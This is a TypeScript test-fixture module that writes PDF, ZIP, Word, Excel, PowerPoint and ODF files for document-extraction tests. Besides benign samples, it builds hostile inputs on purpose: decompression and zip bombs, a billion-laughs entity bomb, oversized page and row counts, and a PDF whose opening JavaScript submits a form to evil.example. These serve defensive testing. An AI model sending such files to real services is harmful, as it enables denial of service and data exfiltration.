/**
 * Builders of document files for the extraction tests: a PDF writer (hand-made
 * objects, xref and trailer), a ZIP writer, and the OOXML / ODF packages and
 * hostile shapes (decompression bombs, an XML entity bomb, a 5,000-page PDF)
 * built from them. The small benign files are written once by
 * tests/fixtures/extract/make-fixtures.ts and committed; the big and hostile
 * ones are built here at test time and never committed.
 */
import { crc32, deflateRawSync, constants as zlib } from "node:zlib";
import iconv from "iconv-lite";

// ------------------------------------------------------------------ PDF

/** A PDF from its objects (object n is objects[n-1]); a Buffer object is taken as is (for streams with binary data). */
export function buildPdf(objects: (string | Buffer)[], options: { root?: number; brokenXref?: boolean; trailerExtra?: string } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((obj, i) => {
    offsets.push(offset);
    const body = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, "latin1"), typeof obj === "string" ? Buffer.from(obj, "latin1") : obj, Buffer.from("\nendobj\n", "latin1")]);
    parts.push(body);
    offset += body.length;
  });
  const xrefAt = offset;
  const rows = offsets.map((o) => `${String(options.brokenXref ? o + 7919 : o).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root ${options.root ?? 1} 0 R ${options.trailerExtra ?? ""}>>\nstartxref\n${options.brokenXref ? xrefAt + 13 : xrefAt}\n%%EOF\n`,
      "latin1",
    ),
  );
  return Buffer.concat(parts);
}

export function pdfStream(dict: string, data: Buffer | string): Buffer {
  const bytes = typeof data === "string" ? Buffer.from(data, "latin1") : data;
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, "latin1"), bytes, Buffer.from("\nendstream", "latin1")]);
}

/** a Type0 font for a Japanese font the PDF does not embed (as Word and Ichitaro write MS-Mincho): decoding needs Adobe's CMaps */
function cidFontObjects(first: number, encoding: string): string[] {
  return [
    `<< /Type /Font /Subtype /Type0 /BaseFont /MS-Mincho /Encoding /${encoding} /DescendantFonts [${first + 1} 0 R] >>`,
    `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /MS-Mincho /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor ${first + 2} 0 R /DW 1000 >>`,
    "<< /Type /FontDescriptor /FontName /MS-Mincho /Flags 6 /FontBBox [0 -141 1000 859] /ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 700 /StemV 80 >>",
  ];
}

const hex = (b: Buffer) => `<${b.toString("hex")}>`;

/** Pages of Japanese lines in a non-embedded CID font, Shift_JIS codes through the 90ms-RKSJ-H CMap. */
export function japanesePdf(pages: string[][]): Buffer {
  const n = pages.length;
  // 1 catalog, 2 pages, 3-5 font, then per page: page, content
  const kids = pages.map((_, i) => `${6 + i * 2} 0 R`).join(" ");
  const objects: (string | Buffer)[] = ["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${kids}] /Count ${n} >>`, ...cidFontObjects(3, "90ms-RKSJ-H")];
  pages.forEach((lines, i) => {
    const ops = lines.map((line, j) => `BT /F1 14 Tf 72 ${760 - j * 24} Td ${hex(iconv.encode(line, "Shift_JIS"))} Tj ET`).join("\n");
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${7 + i * 2} 0 R >>`);
    objects.push(pdfStream("", ops));
  });
  return buildPdf(objects);
}

/** One page of vertical Japanese (UniJIS-UCS2-V): columns from right to left, as it is read. */
export function verticalPdf(columns: string[]): Buffer {
  const ucs2be = (s: string) => {
    const b = Buffer.from(s, "utf16le");
    b.swap16();
    return b;
  };
  const ops = columns.map((col, i) => `BT /F1 16 Tf ${520 - i * 28} 780 Td ${hex(ucs2be(col))} Tj ET`).join("\n");
  return buildPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
    ...cidFontObjects(3, "UniJIS-UCS2-V"),
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 7 0 R >>",
    pdfStream("", ops),
  ]);
}

/** A Latin one-page PDF with JavaScript run on opening (OpenAction) and in the document's name tree. */
export function javascriptPdf(): Buffer {
  return buildPdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> /Contents 4 0 R >>",
    pdfStream("", "BT /F1 12 Tf 72 760 Td (Quarterly report text) Tj ET"),
    "<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://evil.example/');) >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ]);
}

/** A PDF whose xref table points at the wrong offsets (pdf.js must rebuild it from the objects). */
export function brokenXrefPdf(): Buffer {
  return buildPdf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
      pdfStream("", "BT /F1 12 Tf 72 760 Td (Recovered despite the xref) Tj ET"),
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ],
    { brokenXref: true },
  );
}

/** A PDF of `pages` pages sharing one small content stream. */
export function manyPagesPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${5 + i} 0 R`).join(" ");
  const objects: string[] = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "", // the content stream, below
  ];
  for (let i = 0; i < pages; i++) objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>`);
  const content = pdfStream("", "BT /F1 10 Tf 20 100 Td (Page text) Tj ET").toString("latin1");
  objects[3] = content;
  return buildPdf(objects);
}

/**
 * Raw deflate data that inflates to `mib` MiB of `fill`, built without ever
 * holding that much: one MiB compressed once, its blocks repeated (a sync
 * flush ends each copy on a byte boundary), then an empty final block.
 */
export function deflateBomb(mib: number, fill = 0x20): Buffer {
  const chunk = deflateRawSync(Buffer.alloc(1024 * 1024, fill), { finishFlush: zlib.Z_SYNC_FLUSH, level: 9 });
  return Buffer.concat([...Array.from({ length: mib }, () => chunk), Buffer.from([0x03, 0x00])]);
}

/** ASCII85 as PDF writes it (with the ~> end marker) */
function ascii85(data: Buffer): string {
  return `${ascii85Digits(data)}~>`;
}

/** the Ascii85 digits of `data` (z for four zero bytes), without markers */
export function ascii85Digits(data: Buffer): string {
  let out = "";
  for (let i = 0; i < data.length; i += 4) {
    const chunk = Buffer.alloc(4);
    data.copy(chunk, 0, i, i + 4);
    const n = Math.min(4, data.length - i);
    let value = chunk.readUInt32BE(0);
    if (value === 0 && n === 4) {
      out += "z";
      continue;
    }
    const digits: string[] = [];
    for (let j = 0; j < 5; j++) {
      digits.unshift(String.fromCharCode(33 + (value % 85)));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, n + 1).join("");
  }
  return out;
}

/**
 * A PDF whose page content stream decodes to `mib` MiB (a decompression bomb): Flate, the same
 * behind ASCIIHex or ASCII85 (a filter chain), or RunLength.
 */
export function bombPdf(mib: number, shape: "flate" | "hex" | "a85" | "runlength" = "flate"): Buffer {
  const zlibData = Buffer.concat([Buffer.from([0x78, 0xda]), deflateBomb(mib), Buffer.from([0, 0, 0, 0])]);
  const stream =
    shape === "flate"
      ? pdfStream("/Filter /FlateDecode", zlibData)
      : shape === "hex"
        ? pdfStream("/Filter [/ASCIIHexDecode /FlateDecode]", `${zlibData.toString("hex")}>`)
        : shape === "a85"
          ? pdfStream("/Filter [/A85 /Fl]", ascii85(zlibData))
          : pdfStream("/Filter /RunLengthDecode", Buffer.concat([Buffer.alloc(mib * 1024 * 8 * 2, Buffer.from([0x81, 0x20])), Buffer.from([0x80])]));
  return buildPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    stream,
  ]);
}

// ------------------------------------------------------------------ ZIP

export interface ZipFile {
  name: string;
  data: Buffer | string;
  /** store instead of deflate (the ODF mimetype entry must be stored) */
  store?: boolean;
  /** already raw-deflated data, with the size it claims once inflated (for bombs) */
  raw?: { deflated: Buffer; size: number };
}

/** A ZIP archive (fixed timestamps, so the output is reproducible). */
export function buildZip(files: ZipFile[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const f of files) {
    const name = Buffer.from(f.name, "utf8");
    const data = typeof f.data === "string" ? Buffer.from(f.data, "utf8") : f.data;
    const method = f.raw ? 8 : f.store ? 0 : 8;
    const body = f.raw ? f.raw.deflated : f.store ? data : deflateRawSync(data);
    const crc = f.raw ? 0 : crc32(data);
    const size = f.raw ? f.raw.size : data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x5a21, 12); // 2025-01-01
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x5a21, 14);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

// ------------------------------------------------------------------ OOXML

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

function contentTypes(overrides: [string, string][]): string {
  return `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides
    .map(([part, type]) => `<Override PartName="/${part}" ContentType="${type}"/>`)
    .join("")}</Types>`;
}

function rels(list: [string, string, string][]): string {
  return `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
    .map(([id, type, target]) => `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"/>`)
    .join("")}</Relationships>`;
}

/** A Word document: paragraphs (strings) and tables (string[][]) in order. */
export function docx(body: (string | string[][])[], extra: ZipFile[] = [], documentXml?: string): Buffer {
  const p = (t: string) => `<w:p><w:r><w:t xml:space="preserve">${esc(t)}</w:t></w:r></w:p>`;
  const xml =
    documentXml ??
    `${XML}<w:document ${W}><w:body>${body
      .map((b) => (typeof b === "string" ? p(b) : `<w:tbl>${b.map((row) => `<w:tr>${row.map((c) => `<w:tc>${p(c)}</w:tc>`).join("")}</w:tr>`).join("")}</w:tbl>`))
      .join("")}</w:body></w:document>`;
  return buildZip([
    { name: "[Content_Types].xml", data: contentTypes([["word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"]]) },
    { name: "_rels/.rels", data: rels([["rId1", "officeDocument", "word/document.xml"]]) },
    { name: "word/document.xml", data: xml },
    ...extra,
  ]);
}

/** The XML billion laughs inside a Word document. */
export function billionLaughsDocx(): Buffer {
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
  const xml = `${XML}<!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]><w:document ${W}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`;
  return docx([], [], xml);
}

export type Cell = string | number | { date: number } | { formula: string; value: string };

/** A workbook: sheets of rows; strings go to the shared strings (with a phonetic guide on the first), dates are serials. */
export function xlsx(sheets: { name: string; rows: Cell[][] }[], extra: ZipFile[] = []): Buffer {
  const strings: string[] = [];
  const sid = (s: string) => {
    const i = strings.indexOf(s);
    if (i >= 0) return i;
    strings.push(s);
    return strings.length - 1;
  };
  const col = (i: number) => String.fromCharCode(65 + i);
  const sheetXml = sheets.map(
    (sheet) =>
      `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheet.rows
        .map(
          (row, r) =>
            `<row r="${r + 1}">${row
              .map((cell, c) => {
                const ref = `${col(c)}${r + 1}`;
                if (typeof cell === "string") return cell === "" ? "" : `<c r="${ref}" t="s"><v>${sid(cell)}</v></c>`;
                if (typeof cell === "number") return `<c r="${ref}" s="3"><v>${cell}</v></c>`;
                if ("date" in cell) return `<c r="${ref}" s="2"><v>${cell.date}</v></c>`;
                return `<c r="${ref}" t="str"><f>${esc(cell.formula)}</f><v>${esc(cell.value)}</v></c>`;
              })
              .join("")}</row>`,
        )
        .join("")}</sheetData></worksheet>`,
  );
  const shared = `${XML}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${strings.length}" uniqueCount="${strings.length}">${strings
    .map((s, i) => (i === 0 ? `<si><t>${esc(s)}</t><rPh sb="0" eb="1"><t>フリガナ</t></rPh></si>` : `<si><t>${esc(s)}</t></si>`))
    .join("")}</sst>`;
  const styles = `${XML}<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts count="1"><numFmt numFmtId="176" formatCode="yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"/></numFmts><cellXfs count="4"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="176"/><xf numFmtId="3"/></cellXfs></styleSheet>`;
  return buildZip([
    { name: "[Content_Types].xml", data: contentTypes([["xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"]]) },
    { name: "_rels/.rels", data: rels([["rId1", "officeDocument", "xl/workbook.xml"]]) },
    {
      name: "xl/workbook.xml",
      data: `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><workbookPr/><sheets>${sheets
        .map((s, i) => `<sheet name="${esc(s.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`)
        .join("")}</sheets></workbook>`,
    },
    { name: "xl/_rels/workbook.xml.rels", data: rels(sheets.map((_, i) => [`rId${i + 1}`, "worksheet", `worksheets/sheet${i + 1}.xml`])) },
    { name: "xl/sharedStrings.xml", data: shared },
    { name: "xl/styles.xml", data: styles },
    ...sheetXml.map((data, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, data })),
    ...extra,
  ]);
}

/** A zip bomb dressed as a workbook: a sheet that inflates to `mib` MiB. */
export function bombXlsx(mib: number): Buffer {
  const head = Buffer.from(`${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`);
  const deflated = Buffer.concat([deflateRawSync(head, { finishFlush: zlib.Z_SYNC_FLUSH }), deflateBomb(mib)]);
  return buildZip([
    { name: "[Content_Types].xml", data: contentTypes([["xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"]]) },
    { name: "_rels/.rels", data: rels([["rId1", "officeDocument", "xl/workbook.xml"]]) },
    {
      name: "xl/workbook.xml",
      data: `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    { name: "xl/_rels/workbook.xml.rels", data: rels([["rId1", "worksheet", "worksheets/sheet1.xml"]]) },
    // the sheet claims 4 KiB once inflated: the claim is the sender's and is not believed
    { name: "xl/worksheets/sheet1.xml", data: "", raw: { deflated, size: 4096 } },
  ]);
}

/** A presentation: slides of lines, each with optional speaker notes. */
export function pptx(slides: { lines: string[]; notes?: string }[]): Buffer {
  const A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"';
  const textBody = (lines: string[]) => `<p:txBody>${lines.map((l) => `<a:p><a:r><a:t>${esc(l)}</a:t></a:r></a:p>`).join("")}</p:txBody>`;
  const files: ZipFile[] = [
    { name: "[Content_Types].xml", data: contentTypes([["ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"]]) },
    { name: "_rels/.rels", data: rels([["rId1", "officeDocument", "ppt/presentation.xml"]]) },
    {
      name: "ppt/presentation.xml",
      data: `${XML}<p:presentation ${A} xmlns:r="${REL}"><p:sldIdLst>${slides.map((_, i) => `<p:sldId id="${256 + i}" r:id="rId${i + 1}"/>`).join("")}</p:sldIdLst></p:presentation>`,
    },
    { name: "ppt/_rels/presentation.xml.rels", data: rels(slides.map((_, i) => [`rId${i + 1}`, "slide", `slides/slide${i + 1}.xml`])) },
  ];
  slides.forEach((s, i) => {
    files.push({ name: `ppt/slides/slide${i + 1}.xml`, data: `${XML}<p:sld ${A}><p:cSld><p:spTree><p:sp>${textBody(s.lines)}</p:sp></p:spTree></p:cSld></p:sld>` });
    if (s.notes !== undefined) {
      files.push({ name: `ppt/slides/_rels/slide${i + 1}.xml.rels`, data: rels([["rId1", "notesSlide", `../notesSlides/notesSlide${i + 1}.xml`]]) });
      files.push({
        name: `ppt/notesSlides/notesSlide${i + 1}.xml`,
        data: `${XML}<p:notes ${A}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:fld type="slidenum"><a:t>${i + 1}</a:t></a:fld></a:p></p:txBody></p:sp><p:sp>${textBody([s.notes])}</p:sp></p:spTree></p:cSld></p:notes>`,
      });
    }
  });
  return buildZip(files);
}

// ------------------------------------------------------------------ ODF

const ODF_NS =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"';

function odf(kind: "text" | "spreadsheet" | "presentation", body: string): Buffer {
  return buildZip([
    { name: "mimetype", data: `application/vnd.oasis.opendocument.${kind}`, store: true },
    { name: "content.xml", data: `${XML}<office:document-content ${ODF_NS} office:version="1.3"><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>` },
    {
      name: "META-INF/manifest.xml",
      data: `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${kind}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    },
  ]);
}

export function odt(paragraphs: string[], table?: string[][]): Buffer {
  const t = table
    ? `<table:table table:name="表1">${table.map((row) => `<table:table-row>${row.map((c) => `<table:table-cell><text:p>${esc(c)}</text:p></table:table-cell>`).join("")}</table:table-row>`).join("")}</table:table>`
    : "";
  return odf("text", `<text:h text:outline-level="1">${esc(paragraphs[0] ?? "")}</text:h>${paragraphs.slice(1).map((p) => `<text:p>${esc(p)}</text:p>`).join("")}${t}`);
}

export function ods(sheets: { name: string; rows: (string | { date: string })[][] }[]): Buffer {
  return odf(
    "spreadsheet",
    sheets
      .map(
        (s) =>
          `<table:table table:name="${esc(s.name)}">${s.rows
            .map(
              (row) =>
                `<table:table-row>${row
                  .map((c) =>
                    typeof c === "string"
                      ? `<table:table-cell office:value-type="string"><text:p>${esc(c)}</text:p></table:table-cell>`
                      : `<table:table-cell office:value-type="date" office:date-value="${c.date}"><text:p>${c.date}</text:p></table:table-cell>`,
                  )
                  .join("")}<table:table-cell table:number-columns-repeated="16380"/></table:table-row>`,
            )
            .join("")}<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>`,
      )
      .join(""),
  );
}

export function odp(pages: { lines: string[]; notes?: string }[]): Buffer {
  return odf(
    "presentation",
    pages
      .map(
        (p, i) =>
          `<draw:page draw:name="page${i + 1}"><draw:frame><draw:text-box>${p.lines.map((l) => `<text:p>${esc(l)}</text:p>`).join("")}</draw:text-box></draw:frame>${
            p.notes ? `<presentation:notes><draw:frame><draw:text-box><text:p>${esc(p.notes)}</text:p></draw:text-box></draw:frame></presentation:notes>` : ""
          }</draw:page>`,
      )
      .join(""),
  );
}
